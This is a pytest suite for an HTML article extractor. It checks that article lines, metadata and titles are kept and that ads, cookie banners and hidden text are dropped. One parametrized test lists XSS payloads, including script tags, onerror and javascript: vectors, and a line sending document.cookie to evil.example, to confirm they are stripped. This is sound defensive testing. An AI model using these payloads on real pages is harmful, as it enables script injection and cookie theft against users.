"""Reading saved web pages: the article's lines and their kinds, the page's metadata, and nothing else.

The fixture pages under fixtures/html/ imitate real layouts (a semantic <article> page,
div soup with ads and a cookie banner, JSON-LD only, AMP, figures with credits, a bare
<main>, a WordPress theme, a script-built news app, and a hostile page); expected.yml
says, by hand, what a reader takes from each.
"""

from datetime import date
from pathlib import Path

import pytest
import yaml

from ingest import segment
from ingest.html import extract

FIXTURES = Path(__file__).parent / "fixtures" / "html"
EXPECTED = yaml.safe_load((FIXTURES / "expected.yml").read_text(encoding="utf-8"))
PAGES = sorted(EXPECTED)


def read(name: str):
    return extract((FIXTURES / name).read_bytes(), name)


def page(html: str, head: str = ""):
    """A small page around some body markup."""
    return extract(f"<html><head><meta charset='utf-8'>{head}</head><body>{html}</body></html>".encode(), "test.html")


def prose(*texts: str) -> str:
    return "".join(f"<p>{t}</p>" for t in texts)


LEAD = "Xi Jinping and Vladimir Putin met in Moscow on Tuesday, the two leaders said, as talks on gas, trade and security went on."
MORE = "The Kremlin said the meeting, their fortieth, lasted several hours, and that agreements on energy and transport were signed."


@pytest.mark.parametrize("name", PAGES)
def test_every_article_line_is_kept_in_order_with_the_kind_its_markup_gives(name):
    blocks = read(name).blocks
    position = 0
    for kind, phrase in EXPECTED[name]["article"]:
        found = next((i for i in range(position, len(blocks)) if phrase in blocks[i].text), None)
        assert found is not None, f"{phrase!r} missing or out of order in {[b.text[:40] for b in blocks]}"
        assert blocks[found].kind == kind, f"{phrase!r} is {blocks[found].kind}, expected {kind}"
        position = found + 1


@pytest.mark.parametrize("name", PAGES)
def test_site_chrome_around_the_article_is_dropped(name):
    text = read(name).text
    leaked = [phrase for phrase in EXPECTED[name]["chrome"] if phrase in text]
    assert not leaked


@pytest.mark.parametrize("name", PAGES)
def test_metadata_comes_from_the_page(name):
    meta = read(name).meta
    for key, expected in EXPECTED[name]["meta"].items():
        assert meta.get(key) == expected, key


@pytest.mark.parametrize("name", PAGES)
def test_the_text_is_one_clean_block_a_line_ready_for_the_segmenter(name):
    extracted = read(name)
    lines = extracted.text.split("\n")
    assert len(lines) == len(extracted.hints) == len(extracted.blocks)
    assert all(line and line == line.strip() and "  " not in line for line in lines)
    segmented = segment.segment(extracted.text, hints=extracted.hints)
    assert len(segmented.lines) == len(lines)
    assert segmented.title == EXPECTED[name]["meta"]["title"]
    assert segmented.paragraphs


def test_no_script_handler_or_style_from_a_hostile_page_reaches_any_text():
    extracted = read("hostile.html")
    texts = [b.text for b in extracted.blocks] + [str(v) for v in extracted.meta.values()]
    for code in EXPECTED["hostile.html"]["code"]:
        assert not [t for t in texts if code.lower() in t.lower()], code


@pytest.mark.parametrize(
    "snippet",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>javascript:alert(1)</a>",
        "<a href=' jAvAsCrIpT:alert(1)'>click</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "<div style='background:url(javascript:alert(1))'>x</div>",
        "<span style='width: expression(alert(1))'>onclick=alert(1)</span>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<embed src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
        "<style>p{color:red}</style>",
        "<noscript><p>alert(1)</p></noscript>",
        "data:text/html,<script>alert(1)</script>",
        "var s = document.cookie; window.location = 'https://evil.example/?' + s;",
        "p.lead { color: red; background: url(x.png); }",
        "(function () { tracker.push({event: 'view'}) })();",
    ],
)
def test_injected_code_never_becomes_article_text(snippet):
    extracted = page(f"<article><h1>Xi meets Putin</h1>{prose(LEAD)}<p>{snippet}</p>{prose(MORE)}</article>")
    text = extracted.text.lower()
    assert not [code for code in ("alert", "script", "color:", "document.", "push(") if code in text]
    assert LEAD in extracted.text and MORE in extracted.text


def test_a_script_address_is_cut_out_of_prose_that_stays():
    extracted = page(f"<article>{prose(LEAD)}<p>The joint statement is posted at javascript:void(0) and on the Kremlin website, officials said.</p></article>")
    assert extracted.blocks[-1].text == "The joint statement is posted at and on the Kremlin website, officials said."


def test_dropped_chrome_is_counted_by_reason():
    assert {"cookie", "ad", "comments", "aside", "nav"} <= set(read("div_soup.html").dropped)
    assert {"script", "iframe", "code", "hidden", "form"} <= set(read("hostile.html").dropped)
    semantic = read("semantic_article.html").dropped
    assert semantic["share"] >= 1 and semantic["footer"] >= 1 and semantic["related"] >= 1


def test_article_body_is_used_when_the_page_marks_it():
    extracted = page(
        "<div class='promo-grid'><p>Five things to know about the summit, and more, and more, and more.</p></div>"
        f"<div itemprop='articleBody'>{prose(LEAD, MORE)}</div>"
    )
    assert [b.text for b in extracted.blocks] == [LEAD, MORE]


def test_a_teaser_article_does_not_outweigh_the_densest_story_text():
    teaser = "<article class='card'><h3>Weather</h3><p>Sunny in Moscow.</p></article>"
    story = f"<div class='story'>{prose(LEAD, MORE, LEAD.replace('Tuesday', 'Wednesday'))}</div>"
    extracted = page(teaser + story)
    assert LEAD in extracted.text and "Sunny in Moscow" not in extracted.text


def test_loose_text_split_by_double_line_breaks_gives_one_block_per_paragraph():
    extracted = page(f"<div><div class='body'>{LEAD}<br><br>{MORE}<br>Still the same paragraph.</div></div>")
    texts = [b.text for b in extracted.blocks if b.kind != "title"]
    assert texts == [LEAD, MORE + " Still the same paragraph."]


def test_text_is_decoded_normalised_and_collapsed():
    decomposed = "Rosneft\u2019s chief, Igor Sechin, met Ce\u0301line\u00a0Dupont"
    extracted = page(f"<article>{prose(LEAD)}<p>  {decomposed} &amp;amp; Xi&amp;rsquo;s aide\n\n in Beijing.</p></article>")
    assert extracted.blocks[-1].text == "Rosneft’s chief, Igor Sechin, met Céline Dupont & Xi’s aide in Beijing."


def test_a_short_bold_paragraph_is_left_for_the_segmenter_to_judge():
    extracted = page(f"<article>{prose(LEAD)}<p><strong>Energy deals</strong></p>{prose(MORE)}</article>")
    assert [b.kind for b in extracted.blocks] == ["paragraph", None, "paragraph"]


def test_a_paragraph_that_is_mostly_links_is_a_teaser_not_text():
    extracted = page(f"<article>{prose(LEAD)}<p>Read more: <a href='/x'>Inside the Power of Siberia pipeline</a></p>{prose(MORE)}</article>")
    assert "Power of Siberia" not in extracted.text
    assert extracted.dropped["links"] == 1


def test_hidden_and_screen_reader_only_text_is_dropped():
    extracted = page(
        f"<article>{prose(LEAD)}<p hidden>Invisible words</p><span class='sr-only'>Opens in a new window</span>"
        f"<div aria-hidden='true'>Decorative</div><div style='display:none'>Cloaked text</div>{prose(MORE)}</article>"
    )
    assert [b.text for b in extracted.blocks] == [LEAD, MORE]


def test_a_wrapper_named_like_chrome_keeps_the_article_inside_it():
    extracted = page(f"<div class='layout has-sidebar'><h1>Xi meets Putin</h1>{prose(LEAD, MORE)}</div><div class='sidebar'>Most read</div>")
    assert LEAD in extracted.text and "Most read" not in extracted.text


def test_title_drops_the_site_name_from_the_page_title():
    assert page(prose(LEAD), "<title>Xi and Putin meet in Moscow | Steppe Herald</title>").meta["title"] == "Xi and Putin meet in Moscow"
    assert page(prose(LEAD), "<title>Xi and Putin meet in Moscow - World - Daily Courier</title>").meta["title"] == "Xi and Putin meet in Moscow"
    named = "<meta property='og:site_name' content='Courier'><meta property='og:title' content='Xi – Putin: the talks in full - Courier'>"
    assert page(prose(LEAD), named).meta["title"] == "Xi – Putin: the talks in full"


def test_a_page_without_a_heading_gets_its_title_line_from_the_metadata():
    extracted = page(prose(LEAD, MORE), "<title>Xi and Putin meet in Moscow | Courier</title>")
    assert extracted.blocks[0].text == "Xi and Putin meet in Moscow" and extracted.blocks[0].kind == "title"


def test_only_web_addresses_count_as_the_page_url():
    for href in ("javascript:alert(1)", "/relative/path", "data:text/html,x", "https://ok.example/a b"):
        assert "url" not in page(prose(LEAD), f"<link rel='canonical' href='{href}'>").meta
    assert page(prose(LEAD), "<link rel='canonical' href='https://ok.example/a'>").meta["url"] == "https://ok.example/a"


def test_publication_date_from_json_ld_graph_or_time_element():
    graph = '<script type="application/ld+json">[{"@graph": [{"@type": "WebPage"}, {"@type": ["NewsArticle"], "datePublished": "2019-06-05T21:30:00-04:00"}]}]</script>'
    assert page(prose(LEAD), graph).meta["published"] == date(2019, 6, 5)
    timed = page(f"<article><time datetime='2014-05-21'>21 May</time>{prose(LEAD)}</article>")
    assert timed.meta["published"] == date(2014, 5, 21)
    assert "published" not in page(f"<article><time datetime='soon'>soon</time>{prose(LEAD)}</article>").meta


def test_authors_named_as_organisations_are_not_people():
    ld = '<script type="application/ld+json">{"@type": "NewsArticle", "author": {"@type": "Organization", "name": "Courier"}}</script>'
    extracted = page(f"<article><p class='byline'>By Anna Lee</p>{prose(LEAD)}</article>", ld)
    assert extracted.meta["author"] == "Anna Lee"


def test_a_binary_file_is_not_a_page():
    with pytest.raises(ValueError, match="photo.html"):
        extract(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "photo.html")


def test_an_empty_page_gives_no_blocks():
    assert extract(b"<html><body></body></html>", "empty.html").blocks == []
